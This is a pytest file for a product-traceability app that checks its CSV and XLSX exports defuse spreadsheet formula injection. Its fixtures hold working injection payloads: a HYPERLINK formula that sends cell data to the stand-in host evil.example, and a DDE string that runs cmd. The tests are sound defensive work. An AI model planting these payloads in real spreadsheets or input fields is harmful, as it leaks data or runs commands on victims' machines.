"""Exports cannot carry formulas: a name like ``=HYPERLINK(...)`` arrives in a spreadsheet as text.

Product, enterprise and supplier names, order fields and notes are written by outsiders; a spreadsheet
program opening a CSV would run a cell starting with ``=``, ``+``, ``-`` or ``@`` (OWASP "CSV
injection"). Every export writes its cells through :func:`suyuan.trace.sheet_cells.sheet_cell`.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from suyuan.runtime import Runtime
from suyuan.trace.sheet_cells import FORMULA_STARTS, sheet_cell
from suyuan.trace.tracing import sheet as trace_sheet
from tests.factories import BASE, make_batch, make_world
from tests.trace_world import TracedWorld, build_traced_world

HOSTILE = {
    "product": '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "enterprise": '@SUM(1+1)*cmd|" /C calc"!A0',
    "platform": "-2+3",
    "order_no": "\t=1+2",
    "waybill_no": "\r=1+2",
    "note": " =1+2",
}
XLSX_NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture
def hostile(session: Session, runtime: Runtime) -> TracedWorld:
    """The traced lot, with every outsider-written text a formula."""
    traced = build_traced_world(session, runtime.ring)
    product = traced.batch.product
    product.name = HOSTILE["product"]
    traced.world.merchant.name = HOSTILE["enterprise"]
    order = traced.orders[0]
    order.platform, order.order_no, order.waybill_no = (
        HOSTILE["platform"],
        HOSTILE["order_no"],
        HOSTILE["waybill_no"],
    )
    session.commit()
    return traced


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in FORMULA_STARTS


def test_text_that_starts_like_a_formula_is_prefixed_and_numbers_stay_numbers() -> None:
    for text in (*HOSTILE.values(), "＝1+1", "-", "@"):
        assert sheet_cell(text) == "'" + text
    for value in ("Infant formula", "1-2", "a=b", "", "'=already text", 42, -7, 1.5, None):
        assert sheet_cell(value) == value


def test_the_trace_csv_carries_no_formula(session: Session, runtime: Runtime, hostile: TracedWorld) -> None:
    rows = trace_sheet.sheet_rows(session, hostile.world.regulator, runtime.ring, BASE, hostile.batch.id)
    text = "".join(trace_sheet.csv_chunks(rows)).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    for hostile_text in ("product", "enterprise", "platform", "order_no", "waybill_no"):
        assert any(cell.startswith("'" + HOSTILE[hostile_text]) for cell in cells), hostile_text
    shipped = next(row for row in csv.reader(io.StringIO(text)) if row[1] == "shipped")
    assert shipped[6] == "1" and shipped[8].isdigit()  # quantity and serial stay plain numbers


def test_the_trace_xlsx_carries_no_formula(
    session: Session, runtime: Runtime, hostile: TracedWorld, tmp_path: Path
) -> None:
    rows = trace_sheet.sheet_rows(session, hostile.world.regulator, runtime.ring, BASE, hostile.batch.id)
    path = tmp_path / "trace.xlsx"
    trace_sheet.write_xlsx(rows, path)
    with zipfile.ZipFile(path) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert sheet.find(".//x:f", XLSX_NS) is None  # no formula cell at all
    cells = list(sheet.iter(f"{{{XLSX_NS['x']}}}c"))
    texts = ["".join(c.itertext()) for c in cells if c.get("t") in ("inlineStr", "s", "str")]
    assert not [t for t in texts if runs_as_formula(t)]
    assert "'" + HOSTILE["product"] in " ".join(texts)
    numbers = [c for c in cells if c.get("t") in (None, "n")]
    assert numbers  # quantities and serials are number cells


def test_the_codes_csv_keeps_serials_numeric(client: FlaskClient, session: Session, runtime: Runtime) -> None:
    world = make_world(session, runtime.ring)
    batch = make_batch(session, world, runtime.ring, count=3)
    batch.product.name = HOSTILE["product"]
    session.commit()
    headers = {"Authorization": f"Bearer {world.tokens['merchant']}"}
    text = client.get(f"/api/v1/batches/{batch.id}/codes?format=csv", headers=headers).data.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["serial", "url"] and [r[0] for r in rows[1:]] == ["1", "2", "3"]
    assert all(urlsplit(r[1]).scheme.lower() == "https" and not runs_as_formula(r[1]) for r in rows[1:])
